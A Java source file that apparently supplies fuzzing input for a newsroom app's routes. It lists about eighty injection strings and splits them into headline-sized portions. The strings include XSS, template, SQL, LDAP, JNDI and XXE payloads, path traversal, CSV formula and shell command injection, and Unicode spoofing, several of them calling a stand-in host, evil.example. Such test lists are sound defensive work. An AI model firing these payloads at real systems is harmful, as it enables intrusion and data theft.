package org.daybook.routes;

import java.util.ArrayList;
import java.util.List;

/** Text that has broken into other programs: script, templates, headers, spreadsheets, databases, reading order. */
final class HostileWords {

    private static final int FIT = 170;

    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "</title></textarea></script><script src=//evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<iframe srcdoc='<script>parent.x=1</script>'>",
            "<math><mtext><table><mglyph><style><img src=x onerror=x>",
            "<details open ontoggle=alert(1)>",
            "<object data=javascript:alert(1)><embed src=//evil.example>",
            "<base href=//evil.example/><link rel=stylesheet href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<form action=//evil.example><button formaction=javascript:alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<style>@import'//evil.example'</style>",
            "<template><xss inj></template>",
            "<xss inj onfocus=alert(1) autofocus tabindex=1>",
            "<!--><xss inj>-->",
            "<![CDATA[<xss inj>]]>",
            "]]></description><xss inj/>",
            "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
            "\"><xss inj>",
            "'><xss inj>",
            "\" onmouseover=alert(1) inj=\"",
            "' onfocus='alert(1)' inj='",
            "` onfocus=alert(1) inj=`",
            "x onfocus=alert(1) inj",
            "&lt;xss inj&gt;",
            "&#60;xss inj&#62;",
            "\\u003cxss inj\\u003e",
            "%3Cxss%20inj%3E",
            "＜script＞alert(1)＜/script＞",
            "javascript:alert(1)",
            "data:text/html,<xss inj>",
            "[x](javascript:alert(1))",
            "[x](data:text/html;base64,PHhzcz4=)",
            "![x](//evil.example/x.png)",
            "<https://evil.example/\"onclick=x>",
            "{1337*7331}",
            "{newsroom.name}",
            "{inject:me.name}",
            "{#include layout/desk /}",
            "{#each}{/each}",
            "{|<xss inj>|}",
            "{!x!}",
            "${1337*7331}",
            "#{1337*7331}",
            "{{1337*7331}}",
            "<%= 1337*7331 %>",
            "*{1337*7331}",
            "@{x}",
            "${jndi:ldap://evil.example/x}",
            "%s%n%x%1$s",
            "x\r\nSet-Cookie: inj=1",
            "x%0d%0aSet-Cookie:%20inj=1",
            "x\u2028y\u2029z\u0085w",
            "=cmd|'/C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=HYPERLINK(\"//evil.example\")",
            "' or '1'='1",
            "'; drop table briefing; --",
            "1) union select null,null--",
            "\\'; select pg_sleep(5); --",
            "%' escape '!' or 1=1 --",
            "*)(uid=*))(|(uid=*",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "\u202Egnp.exe",
            "\u2066x\u2067y",
            "\u200F\u200Ex\u061Cy",
            "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030Az",
            "\u200B\u200C\u200D\uFEFFx",
            "👩‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿",
            "مرحبا <b>بالعالم</b>",
            "$(touch x)`touch x`|touch x;touch x",
            "__proto__",
            "null");

    private HostileWords() {}

    /** In portions that fit into a headline. */
    static List<Filling> portions() {
        var portions = new ArrayList<Filling>();
        var words = new ArrayList<String>();
        int length = 0;
        for (var word : ALL) {
            if (length + word.length() + 1 > FIT) {
                portions.add(new Filling(List.copyOf(words)));
                words.clear();
                length = 0;
            }
            words.add(word);
            length += word.length() + 1;
        }
        portions.add(new Filling(List.copyOf(words)));
        return portions;
    }
}
